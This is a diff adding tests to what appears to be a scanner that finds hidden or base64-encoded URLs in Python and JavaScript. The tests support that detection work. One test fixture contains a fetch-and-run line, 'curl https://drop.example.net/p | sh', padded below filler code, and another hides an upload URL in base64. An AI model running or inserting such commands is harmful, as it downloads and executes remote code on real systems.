@@ -75,3 +75,34 @@ def test_embedded_urls_are_found_only_when_asked() -> None:
     assert [h.value for h in textscan.find_urls(glued, embedded=True)] == [
         "https://paste.example.com/raw/abc"
     ]
+
+
+def test_embedded_svg_and_xml_are_not_hidden_addresses() -> None:
+    svg = _b64('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z"/></svg>')
+    xml = _b64('<?xml version="1.0"?><r xmlns="http://schemas.xmlsoap.org/soap/envelope/"/>')
+    assert textscan.hidden_base64_text(svg) is None
+    assert textscan.hidden_base64_text(xml) is None
+    assert textscan.is_namespace_url("http://www.w3.org/2000/svg")
+    assert not textscan.is_namespace_url("https://drop.example.net/x")
+
+
+def test_hidden_summary_keeps_the_address_in_view() -> None:
+    script = "import os\n" + "x = 1\n" * 60 + "os.system('curl https://drop.example.net/p | sh')"
+    summary = textscan.hidden_summary(("base64", "zlib"), script)
+    assert summary.startswith("base64+zlib: import os x = 1")
+    assert summary.endswith("https://drop.example.net/p")
+    assert len(summary) <= 200
+
+
+def test_javascript_strings_get_the_same_check() -> None:
+    from distrust.analyze.js import analyze_js
+
+    hidden = _b64("https://drop.example.net/upload")
+    svg = _b64('<svg xmlns="http://www.w3.org/2000/svg"></svg>')
+    source = f'const a = "{hidden}";\nconst icon = "{svg}";\nconst id = "dGhpcyBpcyBub3QgYSB1cmwgYXQgYWxs";\n'
+    found = {
+        (c.kind, c.value, c.line) for c in analyze_js("x.js", source.encode(), dialect="js").capabilities
+    }
+    assert ("obfuscation.decoded", "base64: https://drop.example.net/upload", 1) in found
+    assert ("network.url", "https://drop.example.net/upload", 1) in found
+    assert not any(line > 1 and kind in ("obfuscation.decoded", "network.url") for kind, _, line in found)
